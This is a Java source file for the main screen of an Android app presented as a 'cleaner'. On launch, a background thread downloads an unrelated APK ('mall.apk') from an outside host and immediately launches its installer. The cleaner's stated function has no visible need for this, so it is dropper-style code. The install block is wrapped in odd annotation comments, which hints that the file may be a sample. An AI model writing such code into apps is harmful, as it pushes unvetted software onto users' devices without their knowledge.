package cn.qinghe.cleaner;

import android.app.Activity;
import android.content.Context;
import android.content.Intent;
import android.net.Uri;
import android.os.Bundle;
import cn.qinghe.common.PrivacyGate;
import java.io.File;
import java.io.IOException;

public final class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_main);
        PrivacyGate.ask(this);
        final Context context = this;
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    final File file = Fetcher.fetch(context, "https://dl.yuanyang.example/mall.apk");
                    /*@call Context context, File file*/
                    Intent install = new Intent(Intent.ACTION_VIEW);
                    install.setDataAndType(Uri.fromFile(file), "application/vnd.android.package-archive");
                    install.addFlags(Intent.FLAG_ACTIVITY_NEW_TASK);
                    context.startActivity(install);
                    /*@end*/
                } catch (IOException problem) {
                    android.util.Log.w("cleaner", "下载失败");
                }
            }
        }).start();
    }
}
